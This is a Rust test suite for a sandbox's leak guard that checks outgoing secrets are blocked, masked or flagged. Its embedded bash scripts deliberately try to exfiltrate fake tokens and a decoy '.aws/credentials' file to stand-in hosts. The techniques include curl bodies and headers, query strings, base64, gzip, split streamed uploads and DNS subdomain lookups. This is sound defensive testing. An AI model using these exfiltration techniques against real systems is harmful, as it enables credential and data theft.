//! The leak guard: secrets of this run are stopped on their way out, however they are written, as far as that is promised.

use std::fmt::Write;

use ringfence_promises::{Outcome, World};

const NETWORK: &str = "allow = [{ host = \"allowed.example\", methods = [\"GET\", \"POST\"], websocket = true }, \"*.wild.example\", \"allowed.example:80\"]";

/// Twenty secrets of four kinds and several lengths.
fn secrets() -> Vec<String> {
    let letters = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 20_261_127u64;
    let mut word = |length: usize, letters: &[u8]| -> String {
        let letter = |_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(letters[(state >> 33) as usize % letters.len()])
        };
        (0..length).map(letter).collect()
    };
    (0..20)
        .map(|number| match number % 4 {
            0 => format!("ghp_{}", word(36, letters)),
            1 => word(32, b"0123456789abcdef"),
            2 => word(16, letters),
            _ => format!("{}-{}_{}", word(12, letters), word(14, letters), word(9, letters)),
        })
        .collect()
}

/// Runs the corpus: what it printed, and what the server got, by ways.
fn corpus(world: &World, leaks: &str, once: bool) -> (Outcome, serde_json::Value) {
    let packers = ringfence_promises::python("packers", "zstandard", &["brotli", "zstandard"]);
    let policy = world.policy(&format!("{NETWORK}\n{leaks}"));
    let text = std::fs::read_to_string(&policy).unwrap();
    std::fs::write(&policy, text.replace("read = [", &format!("exec = [\"{packers}\"]\nread = ["))).unwrap();
    let mut variables = String::new();
    for (number, secret) in secrets().iter().enumerate() {
        write!(variables, "APP{number}_TOKEN={secret} ").unwrap();
    }
    let words = world.place.write("words", &secrets().join(" "));
    world.place.write("corpus.py", include_str!("../world/corpus.py"));
    world.place.write("clients.py", include_str!("../world/clients.py"));
    let ways = if once { "once" } else { "all" };
    let outcome = world.host(&format!(
        "export SSL_CERT_FILE=$BASE/ca.pem {variables}; \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c 'PYTHONPATH={packers} PYTHONDONTWRITEBYTECODE=1 WAYS={ways} WORDS=$(cat words) /usr/bin/python3 corpus.py'",
    ));
    println!("{}", outcome.out);
    let judge = concat!(env!("CARGO_MANIFEST_DIR"), "/world/judge.py");
    let mut command = std::process::Command::new("/usr/bin/python3");
    command.arg(judge).arg(world.base.join("sink.log")).arg(words).env("PYTHONPATH", packers);
    let judged = command.output().unwrap();
    assert!(judged.status.success(), "{judged:?}");
    (outcome, serde_json::from_slice(&judged.stdout).unwrap())
}

/// Ways and secrets, as the corpus counted them.
fn counted(outcome: &Outcome) -> (usize, usize) {
    let line = outcome.out.lines().find_map(|line| line.strip_prefix("all: ")).unwrap();
    let mut numbers = line.split(' ').filter_map(|word| word.parse().ok());
    (numbers.next().unwrap(), numbers.next().unwrap())
}

#[test]
fn each_way_that_is_promised_is_stopped() {
    let world = World::new();
    let (outcome, got) = corpus(&world, "[leaks]\nscan = [\"egress\"]\n", false);
    assert!(outcome.out.contains("clean 3 True"), "{outcome:?}");
    for bomb in ["bomb False", "bomb of br False", "bomb of zstd False", "fine True True"] {
        assert!(outcome.out.contains(bomb), "{bomb}: {outcome:?}");
    }
    let (ways, secrets_tried) = counted(&outcome);
    assert!(ways >= 200 && secrets_tried == 20, "{outcome:?}");
    assert!(outcome.out.contains("through: {}"), "{outcome:?}");
    // The server has none of them in any clothes but those that are beyond, and the record none as they are.
    println!("{got}");
    let beyond: Vec<String> = (ways..ways + 3).map(|way| way.to_string()).collect();
    for kind in ["whole", "halves"] {
        let own = got[kind].as_object().unwrap().iter().filter(|(way, _)| !beyond.contains(way));
        assert_eq!(own.collect::<Vec<_>>(), [], "{kind}");
    }
    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
    let events = serde_json::to_string(&world.events()).unwrap();
    for secret in &secrets() {
        assert!(!heads.contains(secret) && !bodies.contains(secret) && !events.contains(secret), "{secret}");
    }
    assert!(events.contains("the variable APP3_TOKEN") && events.contains("\"leak\""), "{events}");
}

/// So the corpus is what it says: each way carries a secret out where nothing is looked through, and the judge sees it.
#[test]
fn without_the_guard_each_way_arrives() {
    let world = World::new();
    let (outcome, got) = corpus(&world, "", true);
    let (ways, _) = counted(&outcome);
    let names = outcome.out.lines().find_map(|line| line.strip_prefix("ways: ")).unwrap();
    let names: Vec<String> = serde_json::from_str(names).unwrap();
    let arrived = |way: &usize| got["whole"][way.to_string()].as_u64() == Some(1);
    let missing: Vec<&str> = (0..ways).filter(|way| !arrived(way)).map(|way| names[way].as_str()).collect();
    // Names are answered by the gateway and asked of nobody; fields behind a body go on to servers of HTTP/2 alone, which the world has none of.
    let known = [" in a name", " in a trailer", " in a trailer of HTTP/2"];
    let other = |name: &&&str| !known.iter().any(|end| name.ends_with(end));
    let others: Vec<&&str> = missing.iter().filter(other).collect();
    assert_eq!(others, [&"a coding of the transfer", &"a method"], "{outcome:?}");
    assert!(ways - missing.len() >= 300 && outcome.out.contains("kind a name: 0/6"), "{outcome:?}");
}

#[test]
fn a_form_a_decoy_and_a_credential_are_known_and_a_warning_lets_through() {
    let world = World::new();
    let rest = format!(
        "[leaks]\nscan = [\"egress\"]\n[credentials.held]\nsource = {{ file = \"{}/token\" }}\nhosts = [\"allowed.example\"]\npaths = [\"/repo/held\"]",
        world.base.display()
    );
    std::fs::write(world.base.join("token"), "held-secret-Zq8mT4vKx2LwP9nRb7\n").unwrap();
    let script = r#"
curl -sm9 https://allowed.example/repo/held >/dev/null
code() { curl -sm9 -o body -w '%{http_code}\n' "$@"; }
code -d 'x=ghp_aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW1xY2' https://allowed.example/repo/form
code -d 'x=held-secret-Zq8mT4vKx2LwP9nRb7' http://allowed.example/repo/held-plain
code -d @/srv/made-up/.aws/credentials http://allowed.example/repo/decoy
code -d 'x=ordinary' https://allowed.example/repo/ordinary
"#;
    let watched = std::fs::File::options().read(true).write(true).open("/dev/fuse").is_ok();
    let run = |action: &str| {
        let policy = world.policy(&format!("{NETWORK}\n{rest}\n"));
        let text = std::fs::read_to_string(&policy).unwrap();
        // Only the watched root has decoys; without the device a policy that names one is refused.
        let text = text.replace(
            if watched { "[files]\n" } else { "(no decoy)" },
            "[files]\ndecoy = [\"/srv/made-up/.aws/credentials\"]\n",
        );
        std::fs::write(
            &policy,
            text.replace("scan = [\"egress\"]", &format!("scan = [\"egress\"]\naction = \"{action}\"")),
        )
        .unwrap();
        let script = world.place.write(world.place.base.path().join("script.sh"), script);
        world.host(&format!(
            "export SSL_CERT_FILE=$BASE/ca.pem; exec \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c \"$(cat {})\"",
            script.display()
        ))
    };
    let blocked = run("block");
    let decoy = if watched { "403\n" } else { "200\n" };
    assert_eq!(blocked.out, format!("403\n403\n{decoy}200\n"), "{blocked:?} {:#?}", world.events());
    let events = serde_json::to_string(&world.events()).unwrap();
    for whose in ["GitHub token", "the credential `held`", "the decoy"] {
        assert!(events.contains(whose) || !watched && whose == "the decoy", "{whose}: {events}");
    }
    let warned = run("warn");
    assert_eq!(warned.out, "200\n200\n200\n200\n", "{warned:?}");
    assert!(serde_json::to_string(&world.events()).unwrap().contains("\"action\":\"warn\""));
}

#[test]
fn a_masked_secret_leaves_as_so_many_letters_or_not_at_all() {
    let world = World::new();
    let policy = world.policy(&format!("{NETWORK}\n[leaks]\nscan = [\"egress\"]\naction = \"mask\"\n"));
    let secret = "Zq8mT4vKx2LwP9nRb7JdYc5HsGf3AeUi1Qo6";
    world.place.write("secret", secret);
    let script = world.place.write(
        world.place.base.path().join("script.sh"),
        r#"
s=$(cat secret)
code() { curl -sm9 -o body -w '%{http_code}\n' "$@"; }
code --json "{\"a\": [\"$s\"]}" https://allowed.example/repo/json
code -d "$(printf %s "$s" | base64)=" https://allowed.example/repo/base64
code -H "X-Note: it is $s." "https://allowed.example/repo/head?a=$s&b=c"
{ head -c 90000 /dev/zero | tr '\0' a; printf %s "first $s second ${s:0:20}"; sleep 0.1; printf %s "${s:20} end"; } \
    | tee large | code -T - -X POST https://allowed.example/repo/large
[[ $(cat body) = "$(sed "s/$s/${s//?/x}/g" large | sha256sum | cut -d' ' -f1)" ]] && echo same
code -H 'Content-Encoding: gzip' --data-binary @<(gzip < secret) https://allowed.example/repo/packed
getent hosts "${s:0:30}.wild.example" || echo none
code -d 'x=ordinary' https://allowed.example/repo/ordinary
"#,
    );
    let outcome = world.host(&format!(
        "export SSL_CERT_FILE=$BASE/ca.pem APP_TOKEN={secret}; exec \"$RF\" run --quiet --policy {policy} --workspace . -- bash -c \"$(cat {})\"",
        script.display()
    ));
    assert_eq!(
        outcome.out,
        "200\n200\n200\n200\nsame\n403\nnone\n200\n",
        "{outcome:?} {:#?}",
        world.events()
    );
    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
    let x = "x".repeat(secret.len());
    for (log, text) in [
        (&bodies, format!("{{\"a\": [\"{x}\"]}}")),
        (&heads, format!("it is {x}.")),
        (&heads, format!("/repo/head?a={x}&b=c")),
        (&bodies, "x=ordinary".to_owned()),
    ] {
        assert!(log.contains(&text), "{text}\n{heads}\n{}", &bodies[bodies.len().saturating_sub(3000)..]);
    }
    let events = serde_json::to_string(&world.events()).unwrap();
    for part in [&secret[..8], &secret[28..], "WnE4bVQ0dkt4Mkx3"] {
        assert!(!heads.contains(part) && !bodies.contains(part) && !events.contains(part), "{part}");
    }
    for action in ["mask", "block"] {
        assert!(events.contains(&format!("\"action\":\"{action}\"")), "{action}: {events}");
    }
}
